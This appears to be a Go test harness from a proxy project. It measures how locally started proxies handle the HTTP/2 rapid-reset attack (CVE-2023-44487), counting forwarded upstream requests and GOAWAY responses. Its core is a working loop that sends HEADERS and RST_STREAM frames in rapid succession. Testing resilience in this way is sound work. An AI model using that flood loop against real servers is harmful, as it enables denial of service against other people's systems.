package main

import (
	"bufio"
	"bytes"
	"context"
	"fmt"
	"io"
	"net"
	"net/http"
	"os"
	"os/exec"
	"path/filepath"
	"strconv"
	"sync/atomic"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"

	"github.com/legate-proxy/legate/internal/tooling/child"
)

// The rapid-reset scenario (CVE-2023-44487) opens one h2c connection and
// sends HEADERS immediately followed by RST_STREAM(CANCEL), stream after
// stream, as fast as the proxy takes them. What matters is the work the
// client can cause upstream: how many of the cancelled requests the proxy
// still forwarded, over how many upstream connections, and whether it
// ended the connection (GOAWAY) and when.

type resetResult struct {
	proxy         string
	skipped       string
	sent          int  // HEADERS+RST pairs written before the proxy stopped reading or we stopped
	goaway        bool // the proxy sent GOAWAY
	goawayAfter   int  // pairs written when the GOAWAY arrived
	closed        bool // the proxy closed the connection
	upstreamReqs  int64
	upstreamConns int64
}

// countingUpstream is an HTTP/1.1 server that counts requests and
// connections and answers after delay (a little upstream work, so that
// forwarded requests pile up the way they do in front of real services).
type countingUpstream struct {
	reqs, conns atomic.Int64
	srv         *http.Server
	port        int
}

func startCountingUpstream(delay time.Duration) (*countingUpstream, error) {
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		return nil, err
	}
	u := &countingUpstream{port: ln.Addr().(*net.TCPAddr).Port}
	u.srv = &http.Server{
		Handler: http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
			u.reqs.Add(1)
			select {
			case <-time.After(delay):
			case <-r.Context().Done():
			}
			_, _ = io.WriteString(w, "ok\n")
		}),
		ConnState: func(_ net.Conn, s http.ConnState) {
			if s == http.StateNew {
				u.conns.Add(1)
			}
		},
	}
	go func() { _ = u.srv.Serve(ln) }()
	return u, nil
}

func runReset(ctx context.Context, o options, out io.Writer, dir string, pinned func(int, []string) []string) error {
	up, err := startCountingUpstream(o.resetDelay)
	if err != nil {
		return err
	}
	defer up.srv.Close()
	fmt.Fprintf(out, "rapid reset: up to %d HEADERS+RST_STREAM pairs on one h2c connection; upstream answers after %s\n\n", o.resets, o.resetDelay)
	selected, err := selectedProxies(o)
	if err != nil {
		return err
	}
	var results []resetResult
	for _, p := range selected {
		name := p.name
		if ctx.Err() != nil {
			return ctx.Err()
		}
		fmt.Fprintf(out, "%s: ", name)
		r := resetProxy(ctx, o, p, dir, up, pinned)
		if r.skipped != "" {
			fmt.Fprintf(out, "skipped: %s\n", r.skipped)
		} else {
			fmt.Fprintf(out, "%d upstream requests for %d resets\n", r.upstreamReqs, r.sent)
		}
		results = append(results, r)
	}
	fmt.Fprintln(out)
	hdr := []string{"proxy", "pairs sent", "GOAWAY", "closed", "upstream requests", "per 10,000 resets", "upstream connections"}
	var rows [][]string
	for _, r := range results {
		if r.skipped != "" {
			rows = append(rows, []string{r.proxy, "skipped", "", "", "", "", ""})
			continue
		}
		ga := "no"
		if r.goaway {
			ga = fmt.Sprintf("after %d", r.goawayAfter)
		}
		per := 0.0
		if r.sent > 0 {
			per = float64(r.upstreamReqs) * 10000 / float64(r.sent)
		}
		rows = append(rows, []string{r.proxy, strconv.Itoa(r.sent), ga, strconv.FormatBool(r.closed),
			strconv.FormatInt(r.upstreamReqs, 10), fmt.Sprintf("%.0f", per), strconv.FormatInt(r.upstreamConns, 10)})
	}
	printRows(out, hdr, rows, o.markdown)
	return nil
}

func resetProxy(ctx context.Context, o options, p proxy, dir string, up *countingUpstream, pinned func(int, []string) []string) resetResult {
	r := resetResult{proxy: p.name}
	bin, err := exec.LookPath(p.bin)
	if err != nil {
		r.skipped = fmt.Sprintf("%s not found (%s)", p.bin, p.install)
		return r
	}
	port, err := freePort()
	if err != nil {
		r.skipped = err.Error()
		return r
	}
	pdir := filepath.Join(dir, p.name+"-reset")
	if err := os.MkdirAll(pdir, 0o755); err != nil {
		r.skipped = err.Error()
		return r
	}
	argv, err := p.h2cCommand(bin, pdir, port, up.port)
	if err != nil {
		r.skipped = err.Error()
		return r
	}
	logPath := filepath.Join(pdir, "output.log")
	proc, err := startProcess(pinned(o.proxyCPU, argv), logPath)
	if err != nil {
		r.skipped = err.Error()
		return r
	}
	defer proc.Stop(stopGrace)
	addr := net.JoinHostPort("127.0.0.1", strconv.Itoa(port))
	if err := child.Poll(ctx, proc, startTimeout, 50*time.Millisecond, func() error {
		c, err := dialIdleH2(addr)
		if err == nil {
			c.Close()
		}
		return err
	}); err != nil {
		r.skipped = fmt.Sprintf("did not start proxying: %v%s", err, logTail(logPath))
		return r
	}
	// Let the start-up probe's request finish, then count from zero.
	time.Sleep(o.resetDelay + 200*time.Millisecond)
	reqs0, conns0 := up.reqs.Load(), up.conns.Load()

	c, err := net.DialTimeout("tcp", addr, 5*time.Second)
	if err != nil {
		r.skipped = err.Error()
		return r
	}
	defer c.Close()
	var sent atomic.Int64
	var weClosed atomic.Bool
	done := make(chan struct{})
	go func() {
		defer close(done)
		fr := http2.NewFramer(io.Discard, bufio.NewReader(c))
		for {
			f, err := fr.ReadFrame()
			if err != nil {
				r.closed = !weClosed.Load()
				return
			}
			if _, ok := f.(*http2.GoAwayFrame); ok && !r.goaway {
				r.goaway, r.goawayAfter = true, int(sent.Load())
			}
		}
	}()
	var hb bytes.Buffer
	enc := hpack.NewEncoder(&hb)
	for _, f := range [][2]string{{":method", "GET"}, {":scheme", "http"}, {":authority", "bench"}, {":path", "/"}} {
		enc.WriteField(hpack.HeaderField{Name: f[0], Value: f[1]})
	}
	block := hb.Bytes()
	bw := bufio.NewWriterSize(c, 64<<10)
	fr := http2.NewFramer(bw, nil)
	bw.WriteString(http2.ClientPreface)
	fr.WriteSettings()
	c.SetWriteDeadline(time.Now().Add(10 * time.Second))
	for i := 0; i < o.resets; i++ {
		id := uint32(2*i + 1)
		fr.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: block, EndStream: true, EndHeaders: true})
		fr.WriteRSTStream(id, http2.ErrCodeCancel)
		if i%100 == 99 || i == o.resets-1 {
			if bw.Flush() != nil {
				break
			}
			sent.Store(int64(i + 1))
		}
	}
	select {
	case <-done:
	case <-time.After(3 * time.Second):
		weClosed.Store(true)
		c.Close()
		<-done
	}
	r.sent = int(sent.Load())
	// Forwarded requests finish after the upstream's delay.
	time.Sleep(o.resetDelay + time.Second)
	r.upstreamReqs, r.upstreamConns = up.reqs.Load()-reqs0, up.conns.Load()-conns0
	return r
}
